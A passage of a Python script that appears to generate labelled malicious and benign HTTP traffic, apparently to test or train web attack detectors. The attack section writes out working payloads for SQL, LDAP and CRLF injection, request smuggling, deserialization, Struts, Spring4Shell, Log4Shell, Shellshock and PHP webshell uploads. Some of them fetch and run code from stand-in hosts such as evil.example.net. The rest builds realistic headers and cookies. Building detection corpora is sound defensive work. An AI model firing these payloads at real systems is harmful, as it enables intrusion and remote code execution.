          [["Cookie", "auth=" + b64(jdump({"username": "admin", "token": {"$exists": True}}))]] + _browser_hdrs())

# --- LDAP injection -------------------------------------------------------------

LDAPI = [
    ("wildcard-close-or", "*)(uid=*))(|(uid=*"),
    ("admin-and-true", "admin)(&)"),
    ("objectclass-or", "*)(|(objectClass=*)"),
    ("nullbyte-close", "*))%00", "cookie"),
    ("userpassword-wildcard", "admin*)((|userPassword=*)"),
    ("mail-or", "x)(|(cn=*)(mail=*"),
    ("probe-metachars", "*()|&'"),
    ("not-and-false", "admin)(!(&(1=0"),
    ("blind-description", "*)(description=a*"),
    ("memberof-admins", "*)(memberOf=CN=Domain Admins,CN=Users,DC=example,DC=com"),
    ("samaccount-wild", "*)(sAMAccountName=*"),
]

LDAPI_CARRIERS = ["basic-user", "x-remote-user", "soap-header", "split-name", "cookie", "json-nested",
                  "x-auth-email", "cookie-b64", "gql-var", "jwt-claim", "ms-principal"]

# --- CRLF / header injection ------------------------------------------------------

CRLF = [
    ("set-cookie-path", "/redirect/%0d%0aSet-Cookie:%20session=attacker", "path-trailing"),
    ("location-qname", "next%0d%0aLocation:%20https://evil.example.net/", "qname"),
    ("response-split-cookie", "en%0d%0a%0d%0a<script>alert(1)</script>", "cookie"),
    ("unicode-crlf-fragment", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1", "fragment"),
    ("lf-only-prefix", "%0aX-Injected:%20true", "xf-prefix"),
    ("double-enc-cookie", "%250d%250aSet-Cookie:%2520admin=1", "cookie-name"),
    ("u-escape", "%u000d%u000aLocation:%20//evil.example.net", "accept-language"),
    ("email-bcc-split", "Jane\r\nBcc: everyone@example.org", "split-name"),
    ("mp-filename-partheader", "x.txt\"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>", "mp-filename-raw"),
    ("log-forge-ua", "Mozilla/5.0%0d%0a127.0.0.1 - admin [01/Jan/2024:00:00:00 +0000] \"GET /admin HTTP/1.1\" 200", "ua"),
    ("json-key-header", "X-Forwarded-For\r\nX-Admin: 1", "json-key"),
    ("xff-encoded", "203.0.113.9%0d%0aX-Forwarded-User:%20admin", "xff"),
    ("x-request-id-split", "req-1%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK", "x-request-id"),
    ("cookie-b64-lf", "en\r\nSet-Cookie: role=admin", "cookie-b64"),
]

CRLF_CARRIERS = ["cookie"]


# --- protocol attacks (smuggling framing, ranges, upgrades, access-control bypass) -

def protocol_attacks(c):
    h = "app.example.com"
    def chunk(s):
        return "%x\r\n%s\r\n" % (len(s.encode()), s)

    # CL.TE: the front end honours Content-Length, the back end the chunked framing; "G" prefixes the next request
    c.add_raw("smuggling-cl-te", "protocol",
              "POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG" % h)
    # TE.CL: the front end reads chunks, the back end stops after 4 bytes ("5c\r\n"), the chunk body is a new request
    inner = ("GPOST /admin HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
             "Content-Length: 15\r\n\r\nx=1")
    body = chunk(inner) + "0\r\n\r\n"
    c.add_raw("smuggling-te-cl", "protocol",
              "POST /search HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\n"
              "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n%s" % (h, body))
    # CL.TE with "Transfer-Encoding : chunked" (space before the colon) hidden from the front end
    body = "0\r\n\r\nGET /admin/delete?user=carlos HTTP/1.1\r\nX-Ignore: x"
    c.add_raw("smuggling-te-obfuscated-space", "protocol",
              "POST /api/v1/cart HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nTransfer-Encoding : chunked\r\n\r\n%s"
              % (h, len(body), body))
    # two different Content-Length headers
    first = "body=hi"
    body = first + "GET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"
    c.add_raw("smuggling-duplicate-cl", "protocol",
              "POST /comment HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nContent-Length: %d\r\n"
              "Content-Type: application/x-www-form-urlencoded\r\n\r\n%s" % (h, len(first), len(body), body))
    # Transfer-Encoding continued on an obs-fold line
    body = "0\r\n\r\nGET /internal HTTP/1.1\r\nX: y"
    c.add_raw("smuggling-te-obs-fold", "protocol",
              "POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nTransfer-Encoding: identity\r\n chunked\r\n\r\n%s"
              % (h, len(body), body))
    # TE.TE: one of two Transfer-Encoding headers is not understood by one hop
    inner = "GPOST /account/email HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 40\r\n\r\nemail=attacker%40evil.example.net"
    body = chunk(inner) + "0\r\n\r\n"
    c.add_raw("smuggling-te-xchunked", "protocol",
              "POST /login HTTP/1.1\r\nHost: %s\r\nContent-Length: 4\r\nTransfer-Encoding: xchunked\r\n"
              "Transfer-Encoding: chunked\r\n\r\n%s" % (h, body))
    c.add_raw("header-nul-byte", "protocol",
              "GET /account HTTP/1.1\r\nHost: %s\r\nX-Forwarded-For: 203.0.113.5\x00127.0.0.1\r\n\r\n" % h)
    c.add("ms15-034-range-overflow", "protocol", "GET", "/welcome.png",
          [["Range", "bytes=0-18446744073709551615"]], host="iis.example.net")
    c.add("apache-killer-many-ranges", "protocol", "HEAD", "/downloads/manual.pdf",
          [["Range", "bytes=0-," + ",".join("5-%d" % i for i in range(0, 160))], ["Accept-Encoding", "gzip"]])
    c.add("h2c-upgrade-smuggle", "protocol", "GET", "/admin/",
          [["Upgrade", "h2c"], ["HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"], ["Connection", "Upgrade, HTTP2-Settings"]],
          ua="h2csmuggler")
    c.add("x-original-url-acl-bypass", "protocol", "GET", "/",
          [["X-Original-URL", "/admin/users/delete?username=carlos"]] + _browser_hdrs())
    c.add("x-rewrite-url-acl-bypass", "protocol", "GET", "/index.aspx?x=1",
          [["X-Rewrite-URL", "/manage/console"]] + _browser_hdrs())
    c.add("method-override-trace", "protocol", "GET", "/api/v1/users",
          [["X-HTTP-Method-Override", "TRACE"], ["X-HTTP-Method", "TRACE"], ["X-Method-Override", "TRACE"]])
    c.add("te-chunked-on-get-with-cl", "protocol", "GET", "/static/app.js",
          [["Transfer-Encoding", "chunked"], ["Content-Length", "5"]], body="0\r\n\r\n", ctype="text/plain")

# --- scanners ----------------------------------------------------------------------

def scanner_attacks(c):
    c.add("sqlmap-ua", "scanner", "GET", "/product.php?id=1", [], ua="sqlmap/1.8.3#stable (https://sqlmap.org)")
    c.add("nikto-ua", "scanner", "GET", "/cgi-bin/test-cgi", [], ua="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)")
    c.add("nuclei-ua-git-config", "scanner", "GET", "/.git/config", [],
          ua="Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))")
    c.add("wpscan-ua", "scanner", "GET", "/wp-json/wp/v2/users", [],
          ua="WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)")
    c.add("nmap-nse-ua", "scanner", "GET", "/nmaplowercheck1716200000", [],
          ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")
    c.add("masscan-ua", "scanner", "GET", "/", [], ua="masscan/1.3 (https://github.com/robertdavidgraham/masscan)")
    c.add("ffuf-ua-dotenv", "scanner", "GET", "/.env", [], ua="Fuzz Faster U Fool v2.1.0-dev")
    c.add("dirbuster-ua", "scanner", "HEAD", "/backup.zip", [],
          ua="DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)")
    c.add("acunetix-aspect-headers", "scanner", "GET", "/index.php",
          [["Acunetix-Aspect", "enabled"], ["Acunetix-Aspect-Password", "082119f75623eb7abd7bf357698ff66c"],
           ["Acunetix-Aspect-Queries", "filelist;aspectalerts"]] + _browser_hdrs())
    c.add("commix-ua", "scanner", "GET", "/ping.php?addr=127.0.0.1", [], ua="commix/v3.9-stable (https://commixproject.com)")
    c.add("wfuzz-ua-in-referer-probe", "scanner", "GET", "/admin.php", [["Referer", "http://www.example.org/FUZZ"]],
          ua="Wfuzz/3.1.0")
    c.add("gobuster-ua", "scanner", "GET", "/actuator/heapdump", [], ua="gobuster/3.6")
    c.add("arachni-ua", "scanner", "GET", "/search?q=arachni_text", [], ua="Arachni/v1.6.1.3")
    c.add("nuclei-oast-header", "scanner", "GET", "/",
          [["X-Forwarded-For", "ck1abcd1234.oast.example.net"], ["X-Forwarded-Host", "ck1abcd1234.oast.example.net"]],
          ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0 Safari/537.36 Nuclei")

# --- generic (prototype pollution, JWT abuse, host poisoning, XPath, formula, ESI, deserialization) -

PICKLE = b64(b"\x80\x04\x95,\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94"
             b"\x8c\x11curl evil.example.net|sh\x94\x85\x94R\x94.")
DOTNET_BF = b64(b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00"
                b"^Microsoft.PowerShell.Editor, Version=3.0.0.0\x05\x01\x00\x00\x00"
                b"BMicrosoft.VisualStudio.Text.Formatting.TextFormattingRunProperties\x01\x00\x00\x00"
                b"\x0fForegroundBrush<ResourceDictionary xmlns:System=\"clr-namespace:System;assembly=mscorlib\">"
                b"<ObjectDataProvider MethodName=\"Start\"><ObjectDataProvider.MethodParameters>"
                b"<System:String>cmd</System:String><System:String>/c calc</System:String>")


def generic_attacks(c):
    c.add("proto-pollution-qname", "generic", "GET", "/api/search?q=lamp&__proto__[isAdmin]=true", _browser_hdrs())
    c.add("proto-pollution-constructor-qname", "generic", "GET",
          "/?constructor[prototype][outputFunctionName]=_tmp1;global.process.mainModule.require(%27child_process%27).exec(%27id%27);var%20__tmp2",
          _browser_hdrs())
    c.add("proto-pollution-json-key", "generic", "PATCH", "/api/v1/users/me/preferences", [],
          '{"theme":"dark","__proto__":{"isAdmin":true,"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}',
          "application/json")
    c.add("proto-pollution-dotted-qname", "generic", "GET", "/app?__proto__.sourceURL=%E2%80%A8%E2%80%A9alert(1)", _browser_hdrs())
    c.add("jwt-alg-none-admin", "generic", "GET", "/api/admin/users",
          [["Authorization", "Bearer " + jwt_like({"sub": "1", "role": "admin", "iat": 1716200000},
                                                  header={"alg": "none", "typ": "JWT"}, sig=False)]])
    c.add("jwt-jwk-embedded", "generic", "GET", "/api/v1/billing",
          [["Authorization", "Bearer " + jwt_like({"sub": "admin"}, header={"alg": "RS256", "jwk": {
              "kty": "RSA", "e": "AQAB", "kid": "attacker", "n": alnum(86)}})]])
    c.add("host-poisoning-reset", "generic", "POST", "/password/forgot",
          [["X-Forwarded-Host", "evil.example.net"]] + _browser_hdrs(),
          form([("email", "victim@example.com")]), "application/x-www-form-urlencoded")
    c.add("xpath-basic-user", "generic", "GET", "/secure/",
          [["Authorization", "Basic " + b64("' or '1'='1' or ''='" + ":x")]])
    c.add("xpath-soap-header", "generic", "POST", "/services/UserService",
          [["SOAPAction", '"urn:example/Lookup"']],
          '<?xml version="1.0"?>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Header>'
          '<Auth xmlns="urn:example"><User>admin\' or count(//user/*)&gt;0 or \'a\'=\'b</User></Auth></soap:Header>'
          '<soap:Body><Lookup xmlns="urn:example"/></soap:Body></soap:Envelope>', "text/xml; charset=utf-8")
    c.add("csv-formula-split-name", "generic", "POST", "/crm/contacts", _browser_hdrs(),
          form([("first_name", "=cmd|' /C calc'"), ("last_name", "!A0"), ("company", "Acme")]),
          "application/x-www-form-urlencoded")
    c.add("csv-formula-hyperlink-json-key", "generic", "POST", "/api/exports/custom", [],
          jdump({"columns": {"=HYPERLINK(\"http://evil.example.net/?d=\"&A1,\"Click\")": "email"}}), "application/json")
    c.add("esi-include-ua", "generic", "GET", "/products/42", [],
          ua="<esi:include src=\"http://evil.example.net/esi.html\"/>")
    c.add("esi-cookie-leak-referer", "generic", "GET", "/news",
          [["Referer", "https://www.example.org/<esi:include src=\"http://evil.example.net/?c=$(HTTP_COOKIE)\"/>"]])
    c.add("python-pickle-cookie", "generic", "GET", "/dashboard", [["Cookie", "session_data=" + PICKLE]] + _browser_hdrs())
    c.add("dotnet-binaryformatter-cookie", "generic", "GET", "/Portal/Default.aspx",
          [["Cookie", ".ASPXAUTH=%s; UserPrefs=%s" % (hexid(64).upper(), DOTNET_BF)]] + _browser_hdrs())
    c.add("open-redirect-prefix", "generic", "GET", "/login",
          [["X-Forwarded-Prefix", "//evil.example.net/%2e%2e"]] + _browser_hdrs())


# --- hand-placed technology specific carriers ---------------------------------------

def java_specials(c):
    s2045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
             "(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
             "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear())."
             "(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id')."
             "(#cmds={'/bin/sh','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true))."
             "(#process=#p.start()).(@org.apache.commons.io.IOUtils@toString(#process.getInputStream()))}")
    c.add("struts-s2-045-content-type", "java", "POST", "/struts2-showcase/fileupload/upload.action", [], "x=1", s2045)
    c.add("struts-s2-046-mp-filename", "java", "POST", "/upload.action", [],
          *multipart([{"name": "upload", "filename": "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Test',233*233)}\x00b",
                       "ctype": "text/plain", "value": "x"}])[::1])
    c.add("spring4shell-param-names", "java", "POST", "/app/greeting", [],
          form([("class.module.classLoader.resources.context.parent.pipeline.first.pattern",
                 "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "")]),
          "application/x-www-form-urlencoded")
    c.add("spring4shell-qname-bracket", "java", "GET",
          "/app/greeting?class.module.classLoader[resources].context.parent.pipeline.first.pattern=x&name=a", _browser_hdrs())
    c.add("spring-cloud-function-routing-header", "java", "POST", "/functionRouter",
          [["spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")"]],
          "data", "text/plain")
    c.add("confluence-ognl-path", "java", "GET",
          "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/",
          _browser_hdrs(), host="wiki.example.com")
    c.add("xstream-dynamic-proxy", "java", "POST", "/rest/orders", [],
          '<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>'
          '<handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command>'
          '<string>/bin/sh</string><string>-c</string><string>id</string></command></target><action>start</action>'
          '</handler></dynamic-proxy></sorted-set>', "application/xml")
    c.add("fastjson-type-key-body", "java", "POST", "/api/v1/settings", [],
          jdump({"theme": "dark", "b": {"@type": "com.sun.rowset.JdbcRowSetImpl",
                                         "dataSourceName": "ldap://evil.example.net:1389/Exploit", "autoCommit": True}}),
          "application/json")
    c.add("jsf-viewstate-serialized", "java", "POST", "/faces/login.xhtml", _browser_hdrs(),
          form([("loginForm", "loginForm"), ("javax.faces.ViewState", JAVA_SER)]), "application/x-www-form-urlencoded")
    c.add("log4shell-jsessionid-matrix", "java", "GET",
          "/portal/home;jsessionid=${jndi:ldap://evil.example.net/j}", _browser_hdrs())
    c.add("log4shell-json-key", "java", "POST", "/api/events", [],
          jdump({"${jndi:ldap://198.51.100.88:389/k}": "click", "ts": 1716200000123}), "application/json")
    c.add("actuator-env-h2-alias", "java", "POST", "/actuator/env", [],
          jdump({"name": "spring.datasource.hikari.connection-test-query",
                 "value": "CREATE ALIAS EXEC AS 'String shellexec(String cmd) throws java.io.IOException { java.util.Scanner s = new java.util.Scanner(Runtime.getRuntime().exec(cmd).getInputStream()); return s.hasNext() ? s.next() : \"\"; }'; CALL EXEC('id');"}),
          "application/json")


def php_specials(c):
    c.add("thinkphp-invokefunction-qnames", "php", "GET",
          "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
          _browser_hdrs())
    c.add("php-cgi-soft-hyphen-args", "php", "POST",
          "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
          [], "<?php echo shell_exec('whoami'); ?>", "application/x-www-form-urlencoded")
    c.add("php-cgi-cve-2012-1823", "php", "POST",
          "/index.php?-d+allow_url_include%3Don+-d+auto_prepend_file%3Dphp%3A%2F%2Finput",
          [], "<?php system('id'); die(); ?>", "application/x-www-form-urlencoded")
    c.add("laravel-ignition-phar", "php", "POST", "/_ignition/execute-solution", [],
          jdump({"solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
                 "parameters": {"variableName": "x", "viewFile": "phar:///var/www/storage/logs/laravel.log/test.txt"}}),
          "application/json")
    c.add("wp-xmlrpc-system-multicall", "php", "POST", "/xmlrpc.php", [],
          '<?xml version="1.0"?>\n<methodCall><methodName>system.multicall</methodName><params><param><value><array><data>'
          + "".join('<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member>'
                    '<member><name>params</name><value><array><data><value><string>admin</string></value>'
                    '<value><string>%s</string></value></data></array></value></member></struct></value>' % pw
                    for pw in ["123456", "password", "admin123", "qwerty"])
          + '</data></array></value></param></params></methodCall>', "text/xml")
    c.add("exif-webshell-upload", "php", "POST", "/uploads/image", _browser_hdrs(),
          *multipart([{"name": "image", "filename": "cat.php.jpg", "ctype": "image/jpeg",
                       "value": "\xff\xd8\xff\xe0JFIF<?php @eval($_POST['pass']); ?>"}])[::1])


def rce_specials(c):
    c.add("shellshock-referer", "rce", "GET", "/cgi-bin/status",
          [["Referer", "() { ignored; }; echo Content-Type: text/plain ; echo ; /bin/cat /etc/passwd"]])
    c.add("shellshock-cookie", "rce", "GET", "/cgi-bin/test.cgi",
          [["Cookie", "() { :;}; /bin/bash -c \"curl http://evil.example.net/s|bash\""]])
    c.add("imagetragick-mvg-upload", "rce", "POST", "/avatar/convert", [],
          *multipart([{"name": "file", "filename": "poc.png", "ctype": "image/png",
                       "value": "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/image.jpg\"|id; \")'\npop graphic-context"}])[::1])
    c.add("ghostscript-ps-upload", "rce", "POST", "/documents/preview", [],
          *multipart([{"name": "doc", "filename": "report.eps", "ctype": "application/postscript",
                       "value": "%!PS\nuserdict /setpagedevice undef\nlegal\n{ null restore } stopped { pop } if\n"
                                "legal\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops"}])[::1])


def build_attacks(c):
    place(c, "sqli", SQLI, SQLI_CARRIERS)
    place(c, "xss", XSS, XSS_CARRIERS)
    place(c, "lfi", LFI, LFI_CARRIERS)
    place(c, "rfi", RFI, RFI_CARRIERS)
    place(c, "rce", RCE, RCE_CARRIERS)
    rce_specials(c)
    place(c, "php", PHP, PHP_CARRIERS)
    php_specials(c)
    place(c, "java", JAVA, JAVA_CARRIERS)
    java_specials(c)
    place(c, "ssrf", SSRF, SSRF_CARRIERS)
    xxe_attacks(c)
    place(c, "ssti", SSTI, SSTI_CARRIERS)
    ssti_specials(c)
    nosqli_attacks(c)
    place(c, "ldapi", LDAPI, LDAPI_CARRIERS)
    place(c, "crlf", CRLF, CRLF_CARRIERS)
    protocol_attacks(c)
    scanner_attacks(c)
    generic_attacks(c)


# ---------------------------------------------------------------------------
# benign mode
# ---------------------------------------------------------------------------

# --- benign pools ----------------------------------------------------------------

ACCEPT_LANGS = [
    "en-US,en;q=0.9",
    "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7,fr;q=0.6",
    "zh-CN,zh;q=0.9,zh-TW;q=0.8,en-US;q=0.7,en;q=0.6",
    "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7,es;q=0.6,it;q=0.5",
    "ja,en-US;q=0.9,en;q=0.8",
    "fr-CA,fr;q=0.9,en-CA;q=0.8,en;q=0.7",
    "sr-Latn-RS,sr;q=0.9,hr;q=0.8,bs;q=0.7,en;q=0.6",
    "ar-EG,ar;q=0.9,en-GB;q=0.8,en;q=0.7",
    "es-419,es;q=0.9",
    "nl-BE,nl;q=0.9,fr-BE;q=0.8,fr;q=0.7,en;q=0.6,de;q=0.5,*;q=0.1",
    "ko-KR,ko;q=0.9,en-US;q=0.8,en;q=0.7,ja;q=0.6",
    "uk-UA,uk;q=0.9,ru;q=0.8,en-US;q=0.7,en;q=0.6",
    "he-IL,he;q=0.9,en-US;q=0.8,en;q=0.7",
    "tr-TR,tr;q=0.9,en-US;q=0.8,en;q=0.7,de;q=0.6",
    "hi-IN,hi;q=0.9,en-IN;q=0.8,en;q=0.7",
    "zh-Hant-TW,zh-Hant;q=0.9,zh;q=0.8,en;q=0.5",
    "en-GB,en;q=0.9,cy;q=0.8",
]

SEC_CH = [
    ('"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"', '"Windows"'),
    ('"Microsoft Edge";v="123", "Not:A-Brand";v="8", "Chromium";v="123"', '"Windows"'),
    ('"Chromium";v="124", "Android WebView";v="124", "Not-A.Brand";v="99"', '"Android"'),
    ('"Google Chrome";v="124", "Chromium";v="124", ";Not A Brand";v="99"', '"macOS"'),
    ('"Opera";v="109", "Not:A-Brand";v="8", "Chromium";v="123"', '"Linux"'),
]

REFERERS = [
    "https://www.example.org/search?q=running+shoes&utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024",
    "https://news.example.net/story/2024/05/20/local-elections?ref=homepage#comments",
    "https://m.example.com/?fbclid=IwAR3xYk2mQp9Lr8sT-1",
    "https://blog.example.org/2024/03/why-we-moved-to-postgres/",
    "https://www.example.com/de/produkte/k%C3%BCche/messer?sort=preis",
    "https://l.example.net/l.php?u=https%3A%2F%2Fshop.example.com%2F&h=AT0abc",
    "https://search.example.com/search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E+%E5%85%A5%E9%96%80&hl=ja",
    "android-app://com.example.news/",
]

IPS4 = ["192.0.2.%d", "198.51.100.%d", "203.0.113.%d"]


def doc_ip():
    return R.choice(IPS4) % R.randint(1, 254)


def doc_ip6():
    return "2001:db8:%x:%x::%x" % (R.randint(0, 0xffff), R.randint(0, 0xffff), R.randint(1, 0xfff))


def trace_headers(k=None):
    """A random mix of tracing / proxy headers as real gateways add them."""
    out = []
    tid, sid = hexid(32), hexid(16)
    kinds = k if k is not None else R.sample(["w3c", "b3", "b3single", "amzn", "dd", "fwd", "xff", "reqid", "cf"],
                                             R.randint(1, 4))
    for kind in kinds:
        if kind == "w3c":
            out.append(["traceparent", "00-%s-%s-0%d" % (tid, sid, R.choice([0, 1]))])
            out.append(["tracestate", R.choice(["rojo=00f067aa0ba902b7,congo=t61rcWkgMzE",
                                                "dd=s:1;o:rum;t.dm:-0,vendor=opaque/value==",
                                                "es=s:0.5,az=" + b64(alnum(9))])])
            if R.random() < 0.6:
                out.append(["baggage", R.choice([
                    "userId=alice,serverNode=DF%2028,isProduction=false",
                    "tenant=acme-eu;region=eu-central-1,session.id=%s" % fuuid(),
                    "sentry-trace_id=%s,sentry-environment=production,sentry-release=web%%402024.05.3,sentry-public_key=%s,sentry-sample_rate=0.1" % (tid, hexid(32)),
                ])])
        elif kind == "b3":
            out += [["X-B3-TraceId", tid], ["X-B3-SpanId", sid], ["X-B3-ParentSpanId", hexid(16)], ["X-B3-Sampled", "1"]]
        elif kind == "b3single":
            out.append(["b3", "%s-%s-1-%s" % (tid, sid, hexid(16))])
        elif kind == "amzn":
            out.append(["X-Amzn-Trace-Id", "Root=1-%s-%s;Parent=%s;Sampled=%d" % (hexid(8), hexid(24), hexid(16), R.choice([0, 1]))])
        elif kind == "dd":
            out += [["x-datadog-trace-id", str(R.randint(10**17, 10**19 - 1))],
                    ["x-datadog-parent-id", str(R.randint(10**17, 10**19 - 1))],
                    ["x-datadog-sampling-priority", R.choice(["1", "2", "-1"])],
                    ["x-datadog-origin", R.choice(["rum", "synthetics", "lambda"])],
                    ["x-datadog-tags", "_dd.p.dm=-4,_dd.p.tid=%s" % hexid(16)]]
        elif kind == "fwd":
            out.append(["Forwarded", R.choice([
                'for="[%s]:%d";proto=https;by=%s' % (doc_ip6(), R.randint(1024, 65000), doc_ip()),
                'for=%s;host=app.example.com;proto=https, for="[%s]"' % (doc_ip(), doc_ip6()),
                'for=_hidden;by=_lb-eu-1;proto=https',
            ])])
        elif kind == "xff":
            out += [["X-Forwarded-For", ", ".join([doc_ip(), doc_ip6(), doc_ip()][:R.randint(1, 3)])],
                    ["X-Forwarded-Proto", "https"], ["X-Forwarded-Port", "443"],
                    ["X-Real-IP", doc_ip()]]
        elif kind == "reqid":
            out.append([R.choice(["X-Request-ID", "X-Correlation-ID", "Request-Id"]),
                        R.choice([fuuid(), "req_" + alnum(24), "|%s.%s." % (tid, sid[:8])])])
        elif kind == "cf":
            out += [["CF-Connecting-IP", doc_ip6()], ["CF-IPCountry", R.choice(["DE", "BR", "JP", "US", "NG", "IN"])],
                    ["CF-Ray", "%s-FRA" % hexid(16)], ["CF-Visitor", '{"scheme":"https"}'],
                    ["True-Client-IP", doc_ip()]]
    return out


def cookie_ga():
    ts = R.randint(1700000000, 1716500000)
    return ["_ga=GA1.1.%d.%d" % (R.randint(10**8, 10**10), ts),
            "_ga_%s=GS1.1.%d.4.1.%d.0.0.0" % (alnum(10).upper(), ts, ts + 600),
            "_gid=GA1.2.%d.%d" % (R.randint(10**8, 10**10), ts)]


def cookie_jar(kind="mixed"):
    """Realistic Cookie header value: analytics + consent + flags + framework session."""
    parts = []
    pool = R.sample(["ga", "fbp", "amcv", "onetrust", "tcf", "cookiebot", "flags", "ab", "hotjar", "segment",
                     "mixpanel", "optimizely", "cfbm", "nextauth"], R.randint(2, 6))
    for p in pool:
        if p == "ga":
            parts += cookie_ga()
        elif p == "fbp":
            parts.append("_fbp=fb.1.%d.%d" % (R.randint(1700000000000, 1716500000000), R.randint(10**8, 10**10)))
        elif p == "amcv":
            parts.append("AMCV_%s%%40AdobeOrg=-1124106680%%7CMCIDTS%%7C19863%%7CMCMID%%7C%d%%7CMCAAMLH-1716800000%%7C6%%7CMCAAMB-1716800000%%7CRKhpRz8krg2tLO6pguXWp5olkAcUniQYPHaMWWgdJ3xzPWQmdj0y%%7CMCOPTOUT-1716207200s%%7CNONE%%7CvVersion%%7C5.5.0"
                         % (hexid(24).upper(), R.randint(10**37, 10**38 - 1)))
        elif p == "onetrust":
            parts.append("OptanonConsent=isGpcEnabled=0&datestamp=Mon+May+20+2024+10%3A15%3A00+GMT%2B0200+(Mitteleurop%C3%A4ische+Sommerzeit)"
                         "&version=202403.1.0&browserGpcFlag=0&isIABGlobal=false&hosts=&consentId=" + fuuid() +
                         "&interactionCount=1&landingPath=NotLandingPage&groups=C0001%3A1%2CC0002%3A0%2CC0003%3A1%2CC0004%3A0&AwaitingReconsent=false")
            parts.append("OptanonAlertBoxClosed=2024-05-20T08:15:00.%03dZ" % R.randint(0, 999))
        elif p == "tcf":
            parts.append("euconsent-v2=CP%s.YAAAAAAAAAAA" % b64u(R.randbytes(48)).replace("-", "A").replace("_", "B"))
        elif p == "cookiebot":
            parts.append("CookieConsent={stamp:%%27%s%%3D%%3D%%27%%2Cnecessary:true%%2Cpreferences:true%%2Cstatistics:%s%%2Cmarketing:false%%2Cmethod:%%27explicit%%27%%2Cver:3%%2Cutc:%d%%2Cregion:%%27de%%27}"
                         % (b64(alnum(30))[:40], R.choice(["true", "false"]), R.randint(1700000000000, 1716500000000)))
        elif p == "flags":
            parts.append("ff_overrides=" + pct(jdump({"newCheckout": R.choice([True, False]), "searchV2": "variant-b",
                                                     "pricing.experiment": {"bucket": R.randint(0, 99)}}), safe=""))
        elif p == "ab":
            parts.append('ab={"exp_4121":"control","exp_4188":"treatment_2"}')
        elif p == "hotjar":
            parts.append("_hjSessionUser_%d=%s" % (R.randint(10**5, 10**7), b64(jdump({"id": fuuid(), "created": 1716200000123, "existing": True}))))
        elif p == "segment":
            parts.append("ajs_anonymous_id=%%22%s%%22" % fuuid())
            parts.append("ajs_user_id=%%22usr_%s%%22" % alnum(14))
        elif p == "mixpanel":
            parts.append("mp_%s_mixpanel=%s" % (hexid(32), pct(jdump({"distinct_id": "$device:" + fuuid(), "$device_id": fuuid(),
                                                                     "$initial_referrer": "$direct", "$initial_referring_domain": "$direct"}), safe="")))
        elif p == "optimizely":
            parts.append("optimizelyEndUserId=oeu%dr0.%d" % (R.randint(1700000000000, 1716500000000), R.randint(10**15, 10**16)))
        elif p == "cfbm":
